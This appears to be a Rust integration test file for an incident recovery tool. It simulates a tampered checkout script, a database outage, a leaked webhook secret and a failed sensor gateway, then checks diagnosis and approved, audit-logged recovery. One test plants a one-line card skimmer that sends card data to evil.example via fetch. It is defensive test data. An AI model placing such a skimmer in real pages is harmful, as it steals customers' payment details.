//! Scenarios on a real local shop: from the symptoms alone (probes and alerts) the right root
//! cause ranks first, and executing its plan — with an approval, real commands and a real
//! audit log — brings every probe back to healthy.

#![allow(clippy::unwrap_used)] // in tests a panic is the failure report

mod support;

use std::collections::HashMap;

use chrono::Duration;
use ensuresec_model::{EntityKey, EntityKind, Incident, IncidentStatus, Severity};
use ensuresec_recovery::config::RecoveryConfig;
use ensuresec_recovery::execute::Execution;
use ensuresec_recovery::execute::{Approval, Context, Outcome, execute};
use ensuresec_recovery::hitting::HsOptions;
use ensuresec_recovery::observation::from_incidents;
use ensuresec_recovery::plan::{Plan, Step, build};
use ensuresec_recovery::probe::Prober;
use ensuresec_recovery::{Diagnoser, Health, RecoveryError, prior};
use support::{LEAKED_SECRET, Shop, now};

fn incident(id: u64, entity: &str, detector: &str, rule: &str) -> Incident {
    Incident {
        id,
        title: format!("{rule} on {entity}"),
        status: IncidentStatus::Open,
        severity: Severity::High,
        entity: EntityKey::new(EntityKind::Asset, entity),
        first_seen: now() - Duration::minutes(5),
        last_seen: now() - Duration::minutes(1),
        alert_count: 1,
        detectors: vec![detector.into()],
        rule_ids: vec![rule.into()],
        tags: vec![],
        history: vec![],
        ledger_index: None,
    }
}

/// Diagnoses from probes and alerts; returns the diagnoser.
async fn diagnose(shop: &Shop, incidents: &[Incident]) -> Diagnoser {
    let (alerts, counts) = from_incidents(&shop.model, incidents, now() - Duration::hours(24));
    let mut observations = Prober::new()
        .run_all(&shop.config.probes, &shop.heartbeats(), now())
        .await;
    observations.extend(alerts);
    let mut d = Diagnoser::new(
        shop.graph.clone(),
        prior::priors(&shop.model, &counts),
        HsOptions::default(),
    )
    .unwrap();
    d.observe_all(observations).unwrap();
    d
}

/// A fresh audit log in the shop's folder.
fn open_log(shop: &Shop) -> ensuresec_auditlog::Log {
    ensuresec_auditlog::Log::open(shop.path("audit"), ensuresec_auditlog::LogConfig::default())
        .unwrap()
}

/// Executes `plan` with `config`, approved by `by`, recorded in `log`.
async fn run(
    shop: &Shop,
    config: &RecoveryConfig,
    plan: &Plan,
    log: &ensuresec_auditlog::Log,
    by: &str,
) -> Result<Execution, RecoveryError> {
    let beats = shop.heartbeats.clone();
    let heartbeats = move || beats.lock().unwrap().clone();
    let prober = Prober::new();
    let cx = Context {
        config,
        prober: &prober,
        heartbeats: &heartbeats,
        audit: log,
        now: &now,
    };
    let approval = Approval {
        by: by.into(),
        at: now(),
        via: "test".into(),
        reason: None,
    };
    execute(plan, approval, &cx).await
}

/// Checks the root cause ranks first, runs its plan with an approval into a real audit log,
/// and checks every probe is healthy after and every step was recorded.
async fn recover(shop: &Shop, d: &Diagnoser, root: &str) {
    let report = d.report(5, 3, None);
    assert_eq!(
        report.candidates[0].assets,
        vec![root.to_string()],
        "ranking: {:#?}",
        report.candidates
    );
    assert!(
        report.candidates[0]
            .reasoning
            .iter()
            .any(|l| l.contains(root))
    );
    let top = d.ranked()[0].1.to_vec();
    let plan = build(&shop.graph, &shop.config, &top);
    assert!(
        matches!(&plan.steps[0], Step::Act { asset, .. } if asset == root),
        "{plan:#?}"
    );
    assert!(matches!(plan.steps.last(), Some(Step::VerifyAll { .. })));

    let log = open_log(shop);
    assert!(matches!(
        run(shop, &shop.config, &plan, &log, " ").await,
        Err(RecoveryError::NotApproved(_))
    ));
    assert_eq!(
        log.reader().size(),
        0,
        "nothing runs or is recorded without approval"
    );

    let done = run(shop, &shop.config, &plan, &log, "alice").await.unwrap();
    assert!(done.recovered, "{:#?}", done.steps);
    assert!(done.steps.iter().all(|s| s.outcome == Outcome::Done));

    let after = Prober::new()
        .run_all(&shop.config.probes, &shop.heartbeats(), now())
        .await;
    let unhealthy: Vec<_> = after.iter().filter(|o| o.health != Health::Ok).collect();
    assert!(unhealthy.is_empty(), "{unhealthy:#?}");

    // approval + (started, outcome) per step + finished
    let reader = log.reader();
    assert_eq!(reader.size(), 2 + 2 * plan.steps.len() as u64);
    let entries: Vec<serde_json::Value> = reader
        .entries(0, reader.size())
        .unwrap()
        .into_iter()
        .map(|e| serde_json::from_slice(&e).unwrap())
        .collect();
    assert_eq!(entries[0]["event"], "recovery_approved");
    assert_eq!(entries[0]["approval"]["by"], "alice");
    for (n, step) in plan.steps.iter().enumerate() {
        let outcome = &entries[2 + 2 * n];
        assert_eq!(outcome["event"], "recovery_step");
        assert_eq!(outcome["step"], step.describe());
        assert_eq!(outcome["outcome"], "done");
    }
    assert_eq!(entries.last().unwrap()["recovered"], true);
    log.close().unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn tampered_checkout_script_is_found_and_restored() {
    let shop = Shop::start().await;
    shop.wait_for_sensor().await;
    let script = shop.web_root.join("js/checkout.js");
    std::fs::write(
        &script,
        "/* skimmer */ fetch('https://evil.example/c?'+card)",
    )
    .unwrap();

    let alerts = [incident(
        1,
        "checkout-script",
        "integrity",
        "integrity-modified",
    )];
    let d = diagnose(&shop, &alerts).await;
    let web = d.graph().index_of("web-frontend").unwrap();
    assert_eq!(d.observation(web).unwrap().health, Health::Faulty);
    recover(&shop, &d, "checkout-script").await;
    assert_eq!(
        std::fs::read_to_string(&script).unwrap(),
        support::ORIGINAL_SCRIPT
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn database_outage_behind_the_api_is_found_and_restarted() {
    let shop = Shop::start().await;
    shop.wait_for_sensor().await;
    shop.fail(&shop.order_db).await;

    let d = diagnose(&shop, &[]).await;
    for symptom in ["web-frontend", "shop-api", "promotions", "order-db"] {
        let i = d.graph().index_of(symptom).unwrap();
        assert_eq!(
            d.observation(i).unwrap().health,
            Health::Faulty,
            "{symptom}"
        );
    }
    recover(&shop, &d, "order-db").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn database_outage_from_api_symptoms_only_ranks_the_database_first() {
    // Without a probe on the database itself: the API, coupons and front end fail while login
    // and the customer database answer — only the order database explains all of it.
    let shop = Shop::start().await;
    shop.wait_for_sensor().await;
    shop.fail(&shop.order_db).await;
    let mut shop_probes = shop.config.clone();
    shop_probes.probes.retain(|p| p.asset != "order-db");
    let observations = Prober::new()
        .run_all(&shop_probes.probes, &shop.heartbeats(), now())
        .await;
    let mut d = Diagnoser::new(
        shop.graph.clone(),
        prior::priors(&shop.model, &HashMap::new()),
        HsOptions::default(),
    )
    .unwrap();
    d.observe_all(observations).unwrap();
    let report = d.report(3, 3, None);
    assert_eq!(report.candidates[0].assets, vec!["order-db".to_string()]);
    // The only other explanations need two independent faults at once (the API and coupons).
    assert!(
        report.candidates[1..].iter().all(|c| c.assets.len() >= 2),
        "{:#?}",
        report.candidates
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn compromised_partner_webhook_gets_its_secret_rotated_and_sessions_cleared() {
    let shop = Shop::start().await;
    shop.wait_for_sensor().await;
    std::fs::write(shop.control.join("webhook.secret"), LEAKED_SECRET).unwrap();
    std::fs::write(shop.control.join("sessions/forged-1"), "x").unwrap();

    let alerts = [incident(
        7,
        "partner-webhook",
        "threshold",
        "webhook-signature-reuse",
    )];
    let d = diagnose(&shop, &alerts).await;
    recover(&shop, &d, "partner-webhook").await;
    let secret = std::fs::read_to_string(shop.control.join("webhook.secret")).unwrap();
    assert!(secret.starts_with("rotated-"), "{secret}");
    assert_eq!(
        std::fs::read_dir(shop.control.join("sessions"))
            .unwrap()
            .count(),
        0
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn failed_sensor_gateway_is_found_and_restarted() {
    let shop = Shop::start().await;
    shop.wait_for_sensor().await;
    shop.fail(&shop.gateway).await;
    // The gateway failed ten minutes ago: the sensors' last report is that old.
    shop.heartbeats
        .lock()
        .unwrap()
        .insert("temperature-sensors".into(), now() - Duration::minutes(10));

    let d = diagnose(&shop, &[]).await;
    for symptom in ["temperature-sensors", "cold-room", "sensor-gateway"] {
        let i = d.graph().index_of(symptom).unwrap();
        assert_eq!(
            d.observation(i).unwrap().health,
            Health::Faulty,
            "{symptom}"
        );
    }
    recover(&shop, &d, "sensor-gateway").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_failed_verification_stops_the_plan_and_skips_the_rest() {
    let shop = Shop::start().await;
    shop.wait_for_sensor().await;
    shop.fail(&shop.order_db).await;
    let d = diagnose(&shop, &[]).await;
    let top = d.ranked()[0].1.to_vec();
    // A restart command that does nothing: the database stays down.
    let mut config = shop.config.clone();
    config.verify.timeout_seconds = 1;
    for a in &mut config.actions {
        if a.asset == "order-db" {
            a.steps = vec![ensuresec_recovery::config::Action::Restart(
                ensuresec_recovery::config::CommandSpec {
                    command: vec!["true".into()],
                    dir: None,
                    timeout_seconds: 10,
                },
            )];
        }
    }
    let plan = build(&shop.graph, &config, &top);
    let log = open_log(&shop);
    let failed = run(&shop, &config, &plan, &log, "alice").await.unwrap();
    assert!(!failed.recovered);
    assert_eq!(
        failed.steps[0].outcome,
        Outcome::Done,
        "the command itself ran"
    );
    assert_eq!(
        failed.steps[1].outcome,
        Outcome::Failed,
        "{:#?}",
        failed.steps
    );
    assert!(failed.steps[1].detail.contains("still unhealthy"));
    assert!(
        failed.steps[2..]
            .iter()
            .all(|s| s.outcome == Outcome::Skipped)
    );
    log.close().unwrap();
}
